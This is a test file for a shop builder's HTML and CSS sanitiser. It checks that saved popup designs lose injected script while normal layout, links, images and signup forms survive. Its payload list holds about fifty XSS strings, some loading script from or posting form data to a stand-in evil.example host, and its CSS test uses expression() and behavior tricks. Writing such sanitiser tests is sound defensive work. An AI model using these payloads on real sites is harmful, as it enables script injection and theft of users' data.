import { describe, expect, it } from 'vitest';
import { safeCss, safeDesign } from '../src/lib/safe-design';

/**
 * Sanitising what the popup and content builder saves (issue 17): script in the forms seen in the wild
 * (after the OWASP XSS filter evasion cheat sheet and mutation-XSS reports) never survives, and what a
 * design really uses does.
 */
const OWN = 'https://panel.example.no/api/builder-files/7/';
const policy = { isOwnFile: (url: string) => url.startsWith(OWN) };
const html = (markup: string) => safeDesign({ html: markup, css: '' }, policy).html;

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://cdn.example/a.png" onload="alert(1)">',
  '<IMG SRC="javascript:alert(1);">',
  '<img src=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1);">',
  '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example/steal"><input name="email"></form>',
  '<button formaction="javascript:alert(1)">Send</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hei</div>',
  '<x onclick=alert(1)>x</x>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding: url(https://evil.example/x.xml#x)">x</div>',
  '<div style="background-image: url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<isindex action=javascript:alert(1) type=submit>',
  '<table background="javascript:alert(1)">',
  '<div id="x"><!--<img src=x onerror=alert(1)>--></div>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://shop.example/" target="_blank">ok</a><script>alert(1)</script>',
];

/** Entities a browser would decode in an attribute, decoded, so an encoded scheme is seen for what it is. */
const decoded = (text: string) =>
  text
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, digits: string) => String.fromCharCode(Number(digits)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .split('')
    // Browsers skip whitespace and control characters inside a scheme ("java\tscript:").
    .filter((character) => character.charCodeAt(0) > 32)
    .join('');

describe('a saved design, made safe for the shop', () => {
  it.each(PAYLOADS.map((payload) => [payload]))('runs nothing from %s', (payload) => {
    const out = html(payload);
    expect(out).not.toMatch(
      /<\s*\/?\s*(script|iframe|object|embed|base|meta|link|style|svg|math|frame|applet|template|noscript|video|audio|source|marquee|isindex|body)\b/i,
    );
    expect(out).not.toMatch(/\son[a-z]+\s*=/i);
    expect(out).not.toMatch(/\s(formaction|action|srcdoc|xlink:href|background|srcset)\s*=/i);
    expect(decoded(out)).not.toMatch(
      /javascript:|vbscript:|data:|expression\(|behavior|binding|alert\(1\)[^<]*<\/script/i,
    );
  });

  it('keeps what a design uses: text, layout, links, https and own pictures, the form and its fields', () => {
    const design = [
      '<section class="hero" style="padding: 24px; background-color: #fde">',
      '<h2 style="font-size: 28px; text-align: center">Få 10 % rabatt</h2>',
      '<p>Meld deg på nyhetsbrevet. <a href="/vilkar">Vilkår</a> · <a href="https://shop.example/" target="_blank">Butikken</a></p>',
      `<img src="${OWN}logo.png" alt="Logo"><img src="https://cdn.example/sko.webp" alt="Sko">`,
      '<form data-bp-form="signup"><label for="e">E-post</label>',
      '<input id="e" type="email" name="email" placeholder="deg@epost.no" required>',
      '<select name="storrelse"><option value="40">40</option></select>',
      '<input type="checkbox" name="vilkar" value="ja"><button type="submit">Meld meg på</button></form>',
      '</section>',
    ].join('');
    const out = html(design);
    expect(out).toContain('<h2 style="font-size:28px;text-align:center">Få 10 % rabatt</h2>');
    expect(out).toContain('<a href="/vilkar">Vilkår</a>');
    expect(out).toContain(
      '<a href="https://shop.example/" target="_blank" rel="noopener noreferrer">Butikken</a>',
    );
    expect(out).toContain(`<img src="${OWN}logo.png" alt="Logo" />`);
    expect(out).toContain('<img src="https://cdn.example/sko.webp" alt="Sko" />');
    expect(out).toContain('<form data-bp-form="signup">');
    expect(out).toContain('<input id="e" type="email" name="email" placeholder="deg@epost.no" required />');
    expect(out).toContain('<option value="40">40</option>');
    expect(out).toContain('<button type="submit">Meld meg på</button>');
    expect(out).toContain('style="padding:24px;background-color:#fde"');
  });

  it("drops pictures that are not https or the account's own, and links to other schemes", () => {
    const out = html(
      [
        '<img src="http://cdn.example/a.png" alt="http">',
        '<img src="//cdn.example/b.png" alt="protocol-relative">',
        '<img src="https://panel.example.no/api/builder-files/8/c.png" alt="another account, but https">',
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="data">',
        '<img alt="none">',
        '<a href="ftp://files.example/x">ftp</a>',
      ].join(''),
    );
    expect(out).not.toContain('http://cdn.example');
    expect(out).not.toContain('//cdn.example/b.png');
    expect(out).not.toContain('data:');
    expect(out).not.toContain('alt="none"');
    expect(out).toContain('<a>ftp</a>');
    // An https picture at another path shape is like any other: only this server's stored files
    // (`/api/images/{id}`) are checked against the account's own and the shared library.
    expect(out).toContain('alt="another account, but https"');
  });

  it("keeps the account's own and the shared library's stored files, and drops another account's, even over https", () => {
    const server = 'https://panel.example.no/api/images/';
    const mine = `${server}${'m'.repeat(32)}`;
    const shared = `${server}${'s'.repeat(32)}`;
    const theirs = `${server}${'t'.repeat(32)}`;
    const library = { isOwnFile: (url: string) => url === mine || url === shared };
    const design = safeDesign(
      {
        html: [
          `<img src="${mine}" alt="egen">`,
          `<img src="${shared}" alt="delt">`,
          `<img src="${theirs}" alt="fremmed">`,
          `<img src="https://panel.example.no/api/%69mages/${'t'.repeat(32)}" alt="kodet">`,
          `<img src="https://panel.example.no/api//images/${'t'.repeat(32)}" alt="dobbel">`,
          '<img src="https://cdn.example/api/images-arkiv/a.png" alt="annen side">',
        ].join(''),
        css: [
          `.a { background-image: url("${shared}") }`,
          `.b { background-image: url(${theirs}) }`,
          `.c { background: url('${mine}') }`,
        ].join('\n'),
      },
      library,
    );
    expect(design.html).toBe(
      [
        `<img src="${mine}" alt="egen" />`,
        `<img src="${shared}" alt="delt" />`,
        '<img src="https://cdn.example/api/images-arkiv/a.png" alt="annen side" />',
      ].join(''),
    );
    expect(design.css).toContain(`url("${shared}")`);
    expect(design.css).toContain(`url('${mine}')`);
    expect(design.css).not.toContain('t'.repeat(32));
  });

  it('makes an input of another type a text field', () => {
    expect(html('<input type="image" src="https://evil.example/x.png" name="x">')).toBe(
      '<input type="text" name="x" />',
    );
  });
});

describe("a design's CSS, made safe", () => {
  it('keeps rules, @media, @container and @keyframes, and drops @import, scripts in values and foreign pictures', () => {
    const css = [
      '@import url("https://evil.example/x.css");',
      '@charset "utf-8";',
      '@font-face { font-family: X; src: url(https://evil.example/x.woff); }',
      '.hero { padding: 24px; background: url(javascript:alert(1)); color: #333 }',
      `.logo { background-image: url("${OWN}logo.png"); width: expression(alert(1)); }`,
      '.foto { background-image: url(https://cdn.example/a.webp) }',
      '.gammel { background-image: url(http://cdn.example/a.png); behavior: url(x.htc) }',
      '.over { position: fixed; inset: 0 }',
      '@media (max-width: 480px) { .hero { padding: 12px } }',
      '@keyframes pop { from { opacity: 0 } to { opacity: 1 } }',
      '@container (max-width: 560px) { .grid { grid-template-columns: repeat(2, 1fr) } }',
      '.esc { content: "\\3c/style\\3e" }',
      '/* </style><script>alert(1)</script> */',
    ].join('\n');
    const out = safeCss(css, policy);
    expect(out).not.toMatch(
      /@import|@charset|@font-face|javascript|expression|behavior|evil|http:\/\/|position|<\/?style|script/i,
    );
    expect(out).toContain('padding: 24px');
    expect(out).toContain('color: #333');
    expect(out).toContain(`url("${OWN}logo.png")`);
    expect(out).toContain('url(https://cdn.example/a.webp)');
    expect(out).toContain('@media (max-width: 480px)');
    expect(out).toContain('@keyframes pop');
    // A copy of a default recommendation template keeps its phone layout (two a row in a narrow place).
    expect(out).toContain('@container (max-width: 560px)');
    expect(out).not.toContain('\\3c');
  });

  it('answers nothing for CSS that does not parse', () => {
    expect(safeCss('.a { color: red', policy)).toBe('');
    expect(safeCss('}}} {{{', policy)).toBe('');
  });
});
